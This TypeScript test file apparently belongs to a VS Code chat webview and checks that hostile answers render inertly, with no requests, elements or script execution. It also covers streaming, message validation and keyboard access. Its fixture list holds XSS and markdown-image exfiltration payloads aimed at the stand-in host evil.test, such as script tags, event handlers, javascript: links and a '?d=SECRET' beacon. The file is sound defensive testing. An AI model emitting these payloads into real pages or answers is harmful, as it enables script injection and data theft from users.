import assert from 'node:assert/strict';
import { openPage, stopBrowser, type OpenedPage } from './harness.ts';
import { answeredTurn, errorItems, stateWith, turnWith } from './states.ts';

const hostile: readonly string[] = [
  '![x](https://evil.test/?d=SECRET)',
  '![x][y]\n\n[y]: https://evil.test/y.png',
  '<img src="https://evil.test/a.png" srcset="https://evil.test/b.png 2x" onerror="alert(1)">',
  '<script>fetch("https://evil.test/")</script>',
  '<script src="https://evil.test/x.js"></script>',
  '<svg onload="alert(1)"><image href="https://evil.test/i.png"/><use href="data:image/svg+xml,x#y"/></svg>',
  '<iframe src="https://evil.test/" srcdoc="<script>alert(1)</script>"></iframe>',
  '<link rel="stylesheet" href="https://evil.test/x.css"><style>@import url(https://evil.test/y.css);</style>',
  '<video poster="https://evil.test/p.png" src="https://evil.test/v.mp4"></video>',
  '<table background="https://evil.test/t.png"><tr><td>x</td></tr></table>',
  '<a href="javascript:alert(1)" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<form action="https://evil.test/"><input name="q" autofocus onfocus="alert(1)"></form>',
  '<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](&#106;avascript:alert(1)) [x](java\tscript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [x](command:workbench.action.quit) [x](vbscript:x)',
  '[x](//evil.test) [x](\\\\evil.test\\share) [x](http:/evil.test) [x](https://user@evil.test) [x](ms-word:ofe|u|https://evil.test)',
  '<https://evil.test/"onmouseover="alert(1)> https://evil.test/"><script>alert(1)</script>',
  '`<img src=https://evil.test/c.png>`',
  '```html" onload="alert(1)\n<img src="https://evil.test/d.png">\n```',
  '| <img src=https://evil.test/t.png> | [x](javascript:1) |\n|:--|--:|\n| <script>1</script> | ![](https://evil.test/u) |',
  '- [ ] <img src=https://evil.test/l.png>\n- [x] ![](//evil.test/m.png)',
  '# ![](https://evil.test/h.png "t\\" onerror=\\"alert(1)")',
  '[x]: <javascript:alert(1)>\n\n[x] ![x]',
  '${alert(1)} {{constructor.constructor("alert(1)")()}} <%= 1 %> __proto__ constructor toString',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  '<!--<img src="https://evil.test/e.png">--><![CDATA[<img src="https://evil.test/f.png">]]>',
  '```mermaid\ngraph TD; A["<img src=https://evil.test/g.png>"]\n```',
  '$$\\href{javascript:alert(1)}{x}\\includegraphics{https://evil.test/k.png}$$',
  '$\\url{javascript:alert(1)}$ $\\htmlStyle{position:fixed;inset:0}{x}$ $\\htmlId{app}{x}$ $\\htmlData{x=1}{x}$ $\\pmb{x}$ $\\class{page}{x}$',
  '$\\def\\a{\\a\\a}\\a$ $\\rule{99999999em}{99999999em}$ $<img src=x onerror=alert(1)>$ $\\text{<script>alert(1)</script>}$',
];

const allowed = ['class', 'role', 'tabindex', 'title', 'aria-label', 'aria-level', 'aria-pressed', 'type', 'start', 'scope', 'disabled', 'dir', 'viewbox', 'aria-hidden', 'd'];

const formulaAttributes = ['class', 'style', 'aria-hidden', 'xmlns', 'display', 'encoding', 'mathcolor', 'mathvariant', 'stretchy', 'fence', 'separator', 'lspace', 'rspace', 'width', 'height', 'viewBox', 'preserveAspectRatio', 'd', 'title'];

describe('Hostile answers', () => {
  let page: OpenedPage;
  after(stopBrowser);
  beforeEach(async () => {
    page = await openPage();
  });
  afterEach(() => page.close());

  it('load nothing, run nothing and make no element or attribute of their own (B13, B14)', async () => {
    const turns = hostile.map((text, index) => turnWith(`t${index}`, text, [{ kind: 'text', id: `a${index}`, text }]));
    await page.show(stateWith({ turns }));
    await page.browserPage.waitForFunction((count) => document.querySelectorAll('.turn').length === count, hostile.length);
    // Answers are drawn after the turns that they stand in.
    await page.browserPage.waitForFunction((count) => [...document.querySelectorAll('.turn .markdown')].filter((answer) => answer.textContent !== '').length === count, hostile.length, { timeout: 5000 }).catch(() => undefined);
    const found = await page.browserPage.evaluate(() => {
      const elements = [...document.querySelectorAll('.markdown *')].filter((element) => element.closest('.formula > *') === null);
      const inFormulas = [...document.querySelectorAll('.formula > *, .formula > * *')];
      return {
        names: [...new Set([...elements, ...inFormulas].map((element) => element.localName))],
        formulas: [...new Set(inFormulas.flatMap((element) => element.getAttributeNames()))],
        attributes: [...new Set(elements.flatMap((element) => element.getAttributeNames()))],
        words: document.querySelector('.transcript')?.textContent ?? '',
      };
    });
    const forbidden = ['script', 'img', 'iframe', 'style', 'link', 'form', 'image', 'use', 'video', 'base', 'meta', 'object', 'embed'];
    assert.deepEqual(found.names.filter((name) => forbidden.includes(name)), []);
    assert.deepEqual(found.attributes.filter((name) => !allowed.includes(name.toLowerCase())), []);
    // KaTeX is not let do what its author asks of it, and what it draws with leads nowhere.
    assert.deepEqual(found.formulas.filter((name) => !formulaAttributes.includes(name)), []);
    assert.ok(found.words.includes('<iframe src="https://evil.test/"'), 'HTML is shown as it was written');
    assert.deepEqual(page.requests, []);
    assert.deepEqual(page.failures, []);
    assert.deepEqual(await page.violations(), []);
  });

  it('do the same when they come letter by letter (B13, B14)', async () => {
    const text = hostile.join('\n\n');
    await page.show(stateWith({ turns: [turnWith('t', 'x', [{ kind: 'text', id: 'a', text: '' }], { outcome: 'running' })] }));
    for (let from = 0; from < text.length; from += 9) {
      await page.push({ type: 'item-extended', turnId: 't', itemId: 'a', text: text.slice(from, from + 9) });
    }
    await page.browserPage.getByText('includegraphics').first().waitFor();
    const attributes = await page.browserPage.evaluate(() => [
      ...new Set([...document.querySelectorAll('.markdown *')].filter((element) => element.closest('.formula > *') === null).flatMap((element) => element.getAttributeNames())),
    ]);
    assert.deepEqual(attributes.filter((name) => !allowed.includes(name.toLowerCase())), []);
    assert.deepEqual([page.requests, page.failures, await page.violations()], [[], [], []]);
  });

  it('cannot make the page ignore the host with a message that is no push', async () => {
    await page.show(stateWith({ turns: [answeredTurn] }));
    await page.browserPage.evaluate(() => {
      for (const data of [null, 1, 'x', {}, { revision: 'x', changes: [] }, { revision: 2 }, []]) {
        window.dispatchEvent(new MessageEvent('message', { data }));
      }
    });
    await page.push({ type: 'chat-cleared' });
    await page.browserPage.getByRole('heading', { name: 'Ask about your code' }).waitFor();
    assert.deepEqual(page.failures, []);
  });

  it('draw only the end anew when a long answer grows: what stands keeps its nodes', async () => {
    await page.show(stateWith({ turns: [turnWith('t', 'x', [{ kind: 'text', id: 'a', text: '' }], { outcome: 'running' })] }));
    await page.browserPage.evaluate(async () => {
      let first: Element | undefined;
      for (let sent = 0; sent < 5000; sent += 10) {
        const words = Array.from({ length: 10 }, (_, index) => `Word **${sent + index}** and \`code\` `).join('');
        const changes = [{ type: 'item-extended', turnId: 't', itemId: 'a', text: `${words}.\n\n` }];
        window.dispatchEvent(new MessageEvent('message', { data: { revision: 2 + sent / 10, changes } }));
        if (sent % 250 === 0) await new Promise((resolve) => setTimeout(resolve, 4));
        first ??= document.querySelector('.answer p') ?? undefined;
      }
      Object.assign(globalThis, { first });
    });
    await page.browserPage.getByRole('log').getByText('Word 4999 and').waitFor();
    const kept = await page.browserPage.evaluate(() => (globalThis as { first?: Element }).first === document.querySelector('.answer p'));
    assert.ok(kept, 'the first paragraph is still the same element');
  });
});

describe('Keyboard', () => {
  after(stopBrowser);

  it('reaches every control, and each has a name', async () => {
    const page = await openPage({ height: 2000 });
    await page.show(
      stateWith({ turns: [answeredTurn, turnWith('t9', 'Hi', errorItems, { outcome: 'failed', usage: undefined })] }),
    );
    const controls = await page.browserPage.evaluate(() => {
      const all = [...document.querySelectorAll('button, vscode-button, vscode-text-area, [role=link]')];
      return all.map((element) => {
        const inside = element.shadowRoot?.querySelector('button, textarea') ?? element;
        // Of a toolbar Tab reaches one button, and arrow keys the others.
        const isReached = element.closest('[role=toolbar]') === null || element.getAttribute('tabindex') !== '-1';
        return { name: inside.getAttribute('aria-label') ?? element.textContent ?? '', isReached };
      });
    });
    assert.deepEqual(controls.filter(({ name }) => name.trim() === ''), []);
    const reached = new Set<string>();
    for (let presses = 0; presses < controls.length + 30; presses++) {
      await page.browserPage.keyboard.press('Tab');
      const name = await page.browserPage.evaluate(() => {
        const active = document.activeElement;
        const deepest = active?.shadowRoot?.activeElement ?? active;
        return deepest?.getAttribute('aria-label') ?? active?.textContent ?? '';
      });
      reached.add(name);
    }
    assert.deepEqual(controls.filter(({ name, isReached }) => isReached && !reached.has(name)), []);
    assert.deepEqual(page.failures, []);
    await page.close();
  });
});
